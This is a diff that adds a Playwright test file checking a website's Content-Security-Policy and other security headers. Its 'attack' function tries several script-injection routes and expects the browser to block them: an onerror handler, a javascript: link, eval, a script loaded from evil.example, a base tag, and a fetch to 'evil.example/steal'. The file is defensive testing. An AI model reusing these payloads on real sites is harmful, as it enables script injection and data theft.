@@ -1,0 +1,147 @@
+import { createHash } from 'node:crypto';
+import { expect, test } from 'playwright/test';
+import { PAGE_ROUTES } from './routes.ts';
+import { showUp, untilHydrated, watchPage } from './watch-page.ts';
+
+const WRONG_ADDRESSES = ['/nowhere', '/case-studies/nobody', '/blog/nothing'];
+const FILTERED = ['/case-studies?category=Escape%20Room', '/case-studies?test-mode=true', '/get-a-quote?step=people'];
+
+test.describe('the policy of every page', () => {
+  for (const route of [...PAGE_ROUTES, ...FILTERED, ...WRONG_ADDRESSES]) {
+    test(`${route} has one strict policy, hydrates and violates nothing`, async ({ page, request }) => {
+      const answer = await request.get(route);
+      const policies = answer.headersArray().filter(({ name }) => name.toLowerCase() === 'content-security-policy');
+      expect(policies).toHaveLength(1);
+      const policy = policies[0]!.value;
+      expect(policy).toMatch(/^default-src 'none'; script-src 'self'/);
+      expect(policy).not.toMatch(/unsafe-inline|unsafe-eval/);
+      expect(policy).toContain("require-trusted-types-for 'script'");
+      expect(policy.length).toBeLessThanOrEqual(4096);
+
+      const watch = await watchPage(page);
+      await page.goto(route);
+      await showUp(page);
+      await untilHydrated(page);
+      expect(await watch.violations()).toEqual([]);
+      const expected = WRONG_ADDRESSES.includes(route) ? /status of 404|^404 / : /^$/;
+      expect(watch.errors.filter((error) => !expected.test(error))).toEqual([]);
+    });
+  }
+});
+
+test('client navigation from page to page violates nothing', async ({ page }) => {
+  test.setTimeout(120_000);
+  const watch = await watchPage(page);
+  await page.goto('/about');
+  await showUp(page);
+  await untilHydrated(page);
+  for (const route of [...PAGE_ROUTES, '/about']) {
+    await page.evaluate(
+      (href) => (window as unknown as { next: { router: { push: (href: string) => void } } }).next.router.push(href),
+      route,
+    );
+    await page.waitForURL((url) => url.pathname === route);
+    await expect(page.locator('h1').first()).toBeVisible();
+  }
+  expect(await watch.violations()).toEqual([]);
+  expect(watch.errors).toEqual([]);
+});
+
+test('answers that are no pages are closed, too, and every answer carries the other headers', async ({ request }) => {
+  for (const path of [
+    '/',
+    '/api/health',
+    '/sitemap.xml',
+    '/feed.xml',
+    '/robots.txt',
+    '/manifest.webmanifest',
+    '/nowhere',
+  ]) {
+    const headers = (await request.get(path)).headers();
+    expect(headers['content-security-policy'], path).toMatch(/^default-src 'none'/);
+    expect(headers, path).toMatchObject({
+      'x-content-type-options': 'nosniff',
+      'x-frame-options': 'DENY',
+      'referrer-policy': 'strict-origin-when-cross-origin',
+      'cross-origin-opener-policy': 'same-origin',
+      'cross-origin-embedder-policy': 'credentialless',
+      'origin-agent-cluster': '?1',
+      'x-permitted-cross-domain-policies': 'none',
+    });
+    expect(headers['permissions-policy'], path).toContain('camera=()');
+    expect(headers, path).not.toHaveProperty('x-powered-by');
+    expect(headers, path).not.toHaveProperty('x-rendered-at');
+  }
+  expect((await request.get('/')).headers()['cross-origin-resource-policy']).toBe('same-origin');
+  expect((await request.get('/art/og/home.png')).headers()['cross-origin-resource-policy']).toBe('cross-origin');
+});
+
+test('eight kinds of injection are refused, before and after React starts', async ({ page }) => {
+  for (const isHydrated of [false, true]) {
+    await page.goto('/about');
+    if (isHydrated) {
+      await showUp(page);
+      await untilHydrated(page);
+    }
+    const outcome = await page.evaluate(attack);
+    expect(outcome, isHydrated ? 'with React' : 'as HTML').toEqual({
+      ran: [],
+      baseHref: `${new URL(page.url()).origin}/about`,
+    });
+  }
+});
+
+test('the hashes in the policy are those of the scripts in the page', async ({ request }) => {
+  const answer = await request.get('/');
+  const html = await answer.text();
+  const inline = [...html.matchAll(/<script(?![^>]* (?:src=|type="application))[^>]*>([\s\S]*?)<\/script>/g)].map(
+    ([, code = '']) => code,
+  );
+  const hashes = inline.map((code) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`);
+  const allowed = /script-src 'self' ([^;]*)/.exec(answer.headers()['content-security-policy'] ?? '')?.[1]?.split(' ');
+  expect(allowed?.toSorted()).toEqual([...new Set(hashes)].toSorted());
+});
+
+/** Runs in the page: tries each way in, and tells which of them ran. */
+async function attack(): Promise<{ ran: string[]; baseHref: string }> {
+  const ran: string[] = [];
+  Object.assign(window, { hit: (name: string) => ran.push(name) });
+  const attempt = async (way: () => unknown) => {
+    try {
+      await way();
+    } catch {
+      // Refused is what it should be.
+    }
+  };
+  const script = (change: (element: HTMLScriptElement) => void) => () => {
+    const element = document.createElement('script');
+    change(element);
+    document.body.append(element);
+  };
+  await attempt(script((element) => (element.text = "hit('inline script')")));
+  await attempt(
+    () =>
+      (document.body.appendChild(document.createElement('div')).innerHTML = `<img src="/x" onerror="hit('handler')">`),
+  );
+  await attempt(() => {
+    const link = document.createElement('a');
+    link.href = "javascript:hit('javascript: link')";
+    document.body.append(link);
+    link.click();
+  });
+  // Later, because the browser's own tools are free to compile.
+  setTimeout(() => attempt(() => (0, eval)("hit('eval')")));
+  await attempt(script((element) => (element.src = 'https://evil.example/x.js')));
+  await attempt(script((element) => (element.src = '/art/evil.js')));
+  await attempt(() => {
+    const base = document.createElement('base');
+    base.href = 'https://evil.example/';
+    document.head.append(base);
+  });
+  await attempt(async () => {
+    await fetch('https://evil.example/steal', { mode: 'no-cors' });
+    ran.push('foreign fetch');
+  });
+  await new Promise((resolve) => setTimeout(resolve, 300));
+  return { ran, baseHref: document.baseURI };
+}
